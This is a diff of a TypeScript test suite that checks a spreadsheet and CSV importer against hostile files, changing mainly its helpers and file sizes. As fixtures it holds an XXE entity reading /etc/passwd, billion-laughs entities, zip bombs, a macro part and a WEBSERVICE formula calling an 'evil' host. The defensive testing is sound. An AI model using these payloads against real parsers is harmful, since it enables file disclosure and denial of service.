@@ -1,23 +1,24 @@
 import { buffer } from 'node:stream/consumers'
 import { writeXlsx } from 'hucre/xlsx'
-import { afterEach, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { ZipFile } from 'yazl'
 import { once } from '#kernel/once.ts'
-import { openTable } from '../../../../src/app/imports/thread.ts'
+import { MAIN, OFFICE, sheetOf, textCell, workbookOf } from '#kit/workbook.ts'
+import { readCsv } from '../../../../src/app/imports/csv.ts'
+import { UnreadableSheet } from '../../../../src/app/imports/sheet.ts'
+import { readXlsx } from '../../../../src/app/imports/xlsx/read.ts'
 
 /** What files get that are tables, and files that are meant to do harm. */
 
-const open: { close(): Promise<void> }[] = []
-afterEach(async () => {
-  for (const table of open.splice(0)) await table.close()
-})
-
 const read = async (bytes: Uint8Array, isWorkbook: boolean): Promise<string[][] | string> => {
-  const table = await openTable(bytes, { isWorkbook, signal: new AbortController().signal })
-  if ('problem' in table) return table.problem
-  open.push(table)
-  const rows = await table.rows(Array.from({ length: Math.min(table.count, 10) }, (_, at) => at))
-  return [[...table.heads], ...rows.map(({ cells }) => [...cells])]
+  try {
+    const table = isWorkbook ? await readXlsx(Buffer.from(bytes)) : readCsv(bytes)
+    const rows = table.rows(Array.from({ length: Math.min(table.count, 10) }, (_, at) => at))
+    return [table.heads, ...rows.map(({ cells }) => cells)]
+  } catch (error) {
+    if (error instanceof UnreadableSheet) return error.problem
+    throw error
+  }
 }
 
 const csv = (content: string | Buffer) => read(Buffer.from(content as string), false)
@@ -109,32 +110,11 @@ test('a workbook gives texts, numbers, days and the results of formulas', async 
   ])
 })
 
-const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
-const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
-
-/** A workbook by hand. @param more other parts; a part with the name of one of the usual parts takes its place */
-const handMade = async (sheet: string, more: Readonly<Record<string, string | Buffer>> = {}): Promise<Buffer> => {
-  const parts: Record<string, string | Buffer> = {
-    '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
-    '_rels/.rels': `<Relationships><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
-    'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-    'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
-    'xl/worksheets/sheet1.xml': sheet,
-    ...more,
-  }
-  const zip = new ZipFile()
-  for (const [name, part] of Object.entries(parts)) zip.addBuffer(Buffer.from(part as string), name)
-  zip.end()
-  return buffer(zip.outputStream)
-}
-
-const text = (at: string, value: string): string => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`
-const sheetOf = (cells: string): string => `<worksheet xmlns="${MAIN}"><sheetData>${cells}</sheetData></worksheet>`
-const GOOD = sheetOf(`<row r="1">${text('A1', 'Name')}</row><row r="2">${text('A2', 'Dana')}</row>`)
+const GOOD = sheetOf(`<row r="1">${textCell('A1', 'Name')}</row><row r="2">${textCell('A2', 'Dana')}</row>`)
 const DANA = [['Name'], ['Dana']]
 
 /** Unpacked it is 210 MB, packed a thousandth of that. */
-const bomb = once(() => handMade(`${GOOD}<!--${' '.repeat(210 * 1024 * 1024)}-->`))
+const bomb = once(() => workbookOf(`<!--${' '.repeat(210 * 1024 * 1024)}-->${GOOD}`))
 const ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 const LAUGHS = `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(1000)}">]>`
 
@@ -160,7 +140,7 @@ const rowsOf = (sheet: string): string => /<sheetData>(.*)<\/sheetData>/.exec(sh
 const emptyRows = (from: number, to: number): string =>
   Array.from({ length: to - from + 1 }, (_, at) => `<row r="${from + at}" s="1"/>`).join('')
 const withSharedTexts = (): Promise<Buffer> =>
-  handMade(sheetOf('<row r="1"><c r="A1" t="s"><v>9999999</v></c></row>'), {
+  workbookOf(sheetOf('<row r="1"><c r="A1" t="s"><v>9999999</v></c></row>'), {
     'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
     'xl/sharedStrings.xml': Buffer.concat([
       Buffer.from(`<sst xmlns="${MAIN}" count="10000000">`),
@@ -173,38 +153,46 @@ describe('hostile files', () => {
   test.each<[string, () => Promise<Uint8Array> | Uint8Array, unknown]>([
     [
       'a workbook with macros: they are not read',
-      () => handMade(GOOD, { 'xl/vbaProject.bin': Buffer.alloc(1000, 1) }),
+      () => workbookOf(GOOD, { 'xl/vbaProject.bin': Buffer.alloc(1000, 1) }),
       DANA,
     ],
     [
       'a part that is large and no table needs: it is not unpacked',
-      () => handMade(GOOD, { 'xl/media/image1.png': Buffer.alloc(1024 * 1024) }),
+      () => workbookOf(GOOD, { 'xl/media/image1.png': Buffer.alloc(1024 * 1024) }),
       DANA,
     ],
     [
       'one with links to other files: they are not read',
-      () => handMade(GOOD, { 'xl/externalLinks/externalLink1.xml': ENTITY }),
+      () => workbookOf(GOOD, { 'xl/externalLinks/externalLink1.xml': ENTITY }),
       DANA,
     ],
     ['a bomb of 210 MB', bomb, 'too_large'],
     ['a bomb that says it is small', async () => lying(await bomb()), 'too_large'],
-    ['an entity from outside', () => handMade(ENTITY + GOOD), 'not_a_table'],
-    ['entities within entities', () => handMade(LAUGHS + GOOD), 'not_a_table'],
-    ['the same in UTF-16', () => handMade(GOOD, { 'xl/styles.xml': Buffer.from(LAUGHS, 'utf16le') }), 'not_a_table'],
+    ['an entity from outside', () => workbookOf(ENTITY + GOOD), 'not_a_table'],
+    ['entities within entities', () => workbookOf(LAUGHS + GOOD), 'not_a_table'],
+    [
+      'the same in UTF-16',
+      () => workbookOf(GOOD, { 'xl/worksheets/sheet1.xml': Buffer.from(LAUGHS + GOOD, 'utf16le') }),
+      'not_a_table',
+    ],
     [
       'a cell in the last column',
-      () => handMade(sheetOf(`<row r="1">${text('XFD1', 'far')}</row>`)),
+      () => workbookOf(sheetOf(`<row r="1">${textCell('XFD1', 'far')}</row>`)),
       'too_many_columns',
     ],
-    ['a cell beyond all columns', () => handMade(sheetOf(`<row r="1">${text('ZZZZZZ1', 'far')}</row>`)), 'not_a_table'],
-    ['no sheet', () => handMade('', { 'xl/_rels/workbook.xml.rels': '<Relationships/>' }), 'not_a_table'],
-    ['an archive that ends in the middle', async () => (await handMade(GOOD)).subarray(0, 400), 'not_a_table'],
+    [
+      'a cell beyond all columns',
+      () => workbookOf(sheetOf(`<row r="1">${textCell('ZZZZZZ1', 'far')}</row>`)),
+      'not_a_table',
+    ],
+    ['no sheet', () => workbookOf('', { 'xl/_rels/workbook.xml.rels': '<Relationships/>' }), 'not_a_table'],
+    ['an archive that ends in the middle', async () => (await workbookOf(GOOD)).subarray(0, 400), 'not_a_table'],
     [
       'a formula with its result',
       () =>
-        handMade(
+        workbookOf(
           sheetOf(
-            `<row r="1">${text('A1', 'Name')}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil")</f><v>Dana</v></c></row>`,
+            `<row r="1">${textCell('A1', 'Name')}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil")</f><v>Dana</v></c></row>`,
           ),
         ),
       DANA,
@@ -212,8 +200,10 @@ describe('hostile files', () => {
     [
       'a formula without a result',
       () =>
-        handMade(
-          sheetOf(`<row r="1">${text('A1', 'Name')}</row><row r="2"><c r="A2"><f>1+1</f></c>${text('B2', 'x')}</row>`),
+        workbookOf(
+          sheetOf(
+            `<row r="1">${textCell('A1', 'Name')}</row><row r="2"><c r="A2"><f>1+1</f></c>${textCell('B2', 'x')}</row>`,
+          ),
         ),
       [
         ['Name', ''],
@@ -222,13 +212,13 @@ describe('hostile files', () => {
     ],
     [
       'a workbook in a workbook: it stays packed',
-      async () => handMade(GOOD, { 'xl/embeddings/Microsoft_Excel_Sheet1.xlsx': await bomb() }),
+      async () => workbookOf(GOOD, { 'xl/embeddings/Microsoft_Excel_Sheet1.xlsx': await bomb() }),
       DANA,
     ],
     ['archives in archives, of which the last is a bomb', async () => nested(await bomb(), 5), 'not_a_table'],
     [
       'formats down to the last row that a sheet can have',
-      () => handMade(sheetOf(`${rowsOf(GOOD)}${emptyRows(3, 1_048_576)}`)),
+      () => workbookOf(sheetOf(`${rowsOf(GOOD)}${emptyRows(3, 1_048_576)}`)),
       DANA,
     ],
     ['ten million texts that rows share', () => withSharedTexts(), 'too_large'],
@@ -245,8 +235,8 @@ describe('hostile files', () => {
     ['a million blank rows', () => `a\r\n${',\r\n'.repeat(1_000_000)}`, 'too_many_rows'],
     ['a cell of a megabyte', () => `a\r\n${'x'.repeat(1_000_000)}\r\n`, 'too_large'],
     ['a quotation mark that does not end', () => `a,b\r\n"${'x,\r\n'.repeat(500_000)}`, 'not_a_table'],
-    ['100 MB in one line', () => Buffer.alloc(100_000_000, 'x'), 'not_a_table'],
-    ['100 MB of columns in one line', () => Buffer.alloc(100_000_000, 'x,'), 'not_a_table'],
+    ['20 MB in one line', () => Buffer.alloc(20_000_000, 'x'), 'not_a_table'],
+    ['20 MB of columns in one line', () => Buffer.alloc(20_000_000, 'x,'), 'not_a_table'],
     ['bytes of zero in a text', () => 'Name,Phone\r\nDa\u0000na,05\u00000\r\n', 'not_a_table'],
     [
       'a byte of zero far from the first lines',
@@ -258,9 +248,3 @@ describe('hostile files', () => {
     ['a program', () => Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919) % 251)), 'not_a_table'],
   ])('CSV: %s', async (_, make, got) => expect(await csv(make())).toEqual(got), 60_000)
 })
-
-test('a file that takes too much memory ends its thread, and nothing else', async () => {
-  const thread = { bytes: Buffer.from(`a\r\n${`${'xy,'.repeat(199)}\r\n`.repeat(20_000)}`), isWorkbook: false }
-  const signal = new AbortController().signal
-  expect(await openTable(thread.bytes, { ...thread, signal, megabytes: 24 })).toEqual({ problem: 'too_large' })
-}, 60_000)
